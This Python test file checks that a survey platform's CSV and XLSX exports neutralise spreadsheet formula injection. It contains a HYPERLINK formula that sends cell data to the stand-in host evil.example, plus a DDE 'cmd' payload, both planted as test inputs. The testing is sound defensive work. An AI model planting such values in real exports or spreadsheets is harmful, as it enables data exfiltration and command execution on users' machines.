"""Finding 3: text cells that a spreadsheet would run as a formula (a unit name or stratum label
such as ``=HYPERLINK("http://…","城关所")``) come out as text in every CSV and XLSX the platform
writes; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from types import ModuleType

import httpx
import pytest
from openpyxl import load_workbook

import survey.design.demo
import survey.results.demo
from survey.cells import safe_cell
from survey.collection.tables import Response
from survey.db.tables import Programme, Wave
from survey.design.tables import Sample, SampledElement
from survey.results.tables import IndexResult
from tests.helpers import login

pytestmark = pytest.mark.anyio
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"城关所")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_gets_an_apostrophe(start: str) -> None:
    text = f"{start}cmd|' /C calc'!A0"
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [3, -3, 0.25, -0.25, 1e-5, "-0.25", "1e-05", "+3", "-.5", "城关所", "a=b", "", None]
)
def test_numbers_and_plain_text_are_unchanged(value: object) -> None:
    result = safe_cell(value)
    assert result == value and type(result) is type(value)


@pytest.fixture()
def demo_modules() -> tuple[ModuleType, ...]:
    return (survey.design.demo, survey.results.demo)


async def _wave(month: str) -> int:
    programme = await Programme.select(Programme.id).where(Programme.code == "nancheng-lsyd")
    wave = (
        await Wave.select(Wave.id)
        .where((Wave.programme == programme[0]["id"]) & (Wave.month == month))
        .first()
    )
    assert wave is not None
    return int(wave["id"])


def _no_live_formula_in_csv(content: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
    return rows


def _xlsx_cells(content: bytes) -> list[object]:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


async def test_results_and_microdata_exports_hold_no_formula(
    demo_city: None, client: httpx.AsyncClient
) -> None:
    wave = await _wave("2026-10")
    # What a hostile registry (unit name) and frame (stratum label) import leave in the tables.
    await IndexResult.update({IndexResult.unit_name: HOSTILE}).where(
        IndexResult.unit_name == "解放派出所"
    )
    strata = await Response.select(Response.stratum).where(Response.wave == wave).first()
    assert strata is not None
    await Response.update({Response.stratum: HOSTILE}).where(
        (Response.wave == wave) & (Response.stratum == strata["stratum"])
    )
    assert (await login(client, "analyst")).status_code == 303
    for kind in ("export", "microdata"):
        text = await client.get(f"/results/{wave}/{kind}/csv")
        assert text.status_code == 200, text.text[:300]
        rows = _no_live_formula_in_csv(text.content)
        assert any("'" + HOSTILE in row for row in rows), kind
        book = await client.get(f"/results/{wave}/{kind}/xlsx")
        assert book.status_code == 200
        cells = _xlsx_cells(book.content)
        assert "'" + HOSTILE in cells, kind
        # Numbers stay numeric in the workbook (estimates, weights).
        assert any(isinstance(c, float) for c in cells), kind


async def test_sample_elements_csv_holds_no_formula(
    demo_city: None, client: httpx.AsyncClient
) -> None:
    sample = await Sample.select(Sample.id).first()
    assert sample is not None
    await SampledElement.update({SampledElement.stratum: HOSTILE}).where(
        SampledElement.sample == sample["id"]
    )
    assert (await login(client, "analyst")).status_code == 303
    response = await client.get(f"/design/samples/{sample['id']}/elements.csv")
    assert response.status_code == 200
    rows = _no_live_formula_in_csv(response.content)
    assert rows[1][1] == "'" + HOSTILE
    float(rows[1][4])  # the inclusion probability is still a plain number
